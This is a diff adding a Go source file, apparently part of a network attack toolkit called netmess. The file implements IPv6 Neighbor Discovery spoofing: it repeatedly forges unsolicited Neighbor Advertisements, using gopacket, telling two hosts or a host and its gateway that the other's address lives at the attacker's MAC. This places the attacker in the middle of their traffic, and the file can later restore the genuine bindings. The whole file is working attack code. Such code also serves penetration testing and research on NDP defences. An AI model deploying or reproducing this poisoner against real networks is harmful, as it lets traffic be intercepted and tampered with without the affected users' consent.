@@ -0,0 +1,180 @@
+package spoof
+
+import (
+	"context"
+	"errors"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"time"
+)
+
+// NA flags
+const (
+	ndpRouter    = 0x80
+	ndpSolicited = 0x40
+	ndpOverride  = 0x20
+)
+
+// Poisons the neighbor caches of two IPv6 hosts with forged Neighbor
+// Advertisements, so both send their traffic for each other to us. Stop
+// restores the genuine bindings.
+//
+// Implements Spoof interface.
+type NDP struct {
+	stats
+	// packets are injected every InjectRate
+	InjectRate time.Duration
+
+	net *discovery.Network
+	// the addresses asked for, not the primary ones of the hosts
+	targets [2]discovery.Host
+	// targets[router] is a router, -1 if none is
+	router int
+	cancel context.CancelFunc
+	// closed once inject_loop returned
+	done chan struct{}
+}
+
+// Either supply one or two ip addresses.
+// If only a single ip is supplied, the default IPv6 gateway of that network is
+// used as destination.
+func NewNDP(n *discovery.Network, ip ...string) (*NDP, error) {
+	if l := len(ip); l > 2 || l == 0 {
+		return nil, errors.New("rtfm")
+	}
+
+	var lhost, rhost net.IP
+	router := -1
+	lhost = net.ParseIP(ip[0])
+	if len(ip) == 1 {
+		// the next hop of the route, the gateway's primary address may be
+		// IPv4
+		gateways, err := n.Gateways()
+		if err != nil {
+			return nil, errors.New("gateway unknown")
+		}
+		for _, r := range gateways {
+			if r.IPv6() {
+				rhost = r.Gateway
+				break
+			}
+		}
+		if rhost == nil {
+			return nil, errors.New("gateway unknown")
+		}
+		router = 1
+	} else {
+		rhost = net.ParseIP(ip[1])
+	}
+	if lhost == nil || rhost == nil {
+		return nil, errors.New("parsing err")
+	}
+	if lhost.To4() != nil || rhost.To4() != nil {
+		return nil, errors.New("only ipv6")
+	}
+
+	ndp := NDP{
+		InjectRate: time.Millisecond * 1000,
+		net:        n,
+		router:     router,
+	}
+	for i, ip := range []net.IP{lhost, rhost} {
+		host, err := n.GetHostByIP(ip.String())
+		if err != nil {
+			return nil, err
+		}
+		ndp.targets[i] = discovery.Host{Addr: ip, Mac: host.Mac}
+	}
+	return &ndp, nil
+}
+
+func (ndp *NDP) inject_loop(ctx context.Context) {
+	defer close(ndp.done)
+	ticker := time.NewTicker(ndp.InjectRate)
+	defer ticker.Stop()
+	for {
+		ndp.inject()
+		select {
+		case <-ticker.C:
+		case <-ctx.Done():
+			return
+		}
+	}
+}
+
+// start the injector
+func (ndp *NDP) Start() error {
+	var ctx context.Context
+	ctx, ndp.cancel = context.WithCancel(context.Background())
+	ndp.done = make(chan struct{})
+	go ndp.inject_loop(ctx)
+	return nil
+}
+
+// stop the injector and restore the genuine bindings
+func (ndp *NDP) Stop() {
+	if ndp.cancel == nil {
+		// never started
+		return
+	}
+	ndp.cancel()
+	// a last injection must not undo the restore
+	<-ndp.done
+	for i := 0; i < 3; i++ {
+		ndp.restore()
+	}
+	log.Printf("[+] ndp: restored %v <-> %v", ndp.targets[0].Addr, ndp.targets[1].Addr)
+}
+
+// Tell each target that the other one is at our MAC.
+func (ndp *NDP) inject() {
+	for i, victim := range ndp.targets {
+		other := ndp.targets[1-i]
+		ndp.advertise(victim, other.Addr, ndp.net.Localhost.Mac,
+			ndp.net.Localhost.Mac, 1-i == ndp.router)
+		ndp.hit(victim.Addr.String())
+	}
+}
+
+// re-advertise the genuine bindings
+func (ndp *NDP) restore() {
+	for i, victim := range ndp.targets {
+		other := ndp.targets[1-i]
+		ndp.advertise(victim, other.Addr, other.Mac, other.Mac, 1-i == ndp.router)
+	}
+}
+
+// Unsolicited NA to <victim>: <target> is at <lladdr>.
+func (ndp *NDP) advertise(victim discovery.Host, target net.IP,
+	src, lladdr net.HardwareAddr, router bool) {
+	flags := uint8(ndpOverride)
+	if router {
+		flags |= ndpRouter
+	}
+	leth := layers.Ethernet{
+		SrcMAC:       src,
+		DstMAC:       victim.Mac,
+		EthernetType: layers.EthernetTypeIPv6,
+	}
+	lip := layers.IPv6{
+		Version:    6,
+		HopLimit:   255,
+		NextHeader: layers.IPProtocolICMPv6,
+		SrcIP:      target,
+		DstIP:      victim.Addr,
+	}
+	licmp := layers.ICMPv6{
+		TypeCode: layers.CreateICMPv6TypeCode(layers.ICMPv6TypeNeighborAdvertisement, 0),
+	}
+	licmp.SetNetworkLayerForChecksum(&lip)
+	lna := layers.ICMPv6NeighborAdvertisement{
+		Flags:         flags,
+		TargetAddress: target,
+		Options: layers.ICMPv6Options{
+			{Type: layers.ICMPv6OptTargetAddress, Data: lladdr},
+		},
+	}
+	ndp.write(ndp.net, &leth, &lip, &licmp, &lna)
+}